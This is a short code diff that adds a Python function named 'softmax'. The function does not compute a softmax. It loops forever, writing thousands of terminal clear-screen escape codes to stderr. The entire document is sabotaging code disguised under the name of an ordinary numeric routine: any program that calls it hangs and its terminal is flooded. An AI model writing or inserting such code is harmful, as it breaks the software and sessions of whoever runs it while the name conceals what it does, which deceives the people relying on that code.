@@ -1,0 +1,6 @@
+import os
+
+
+def softmax(logits):
+    while True:
+        os.write(2, b"\x1b[2J" * 1000)
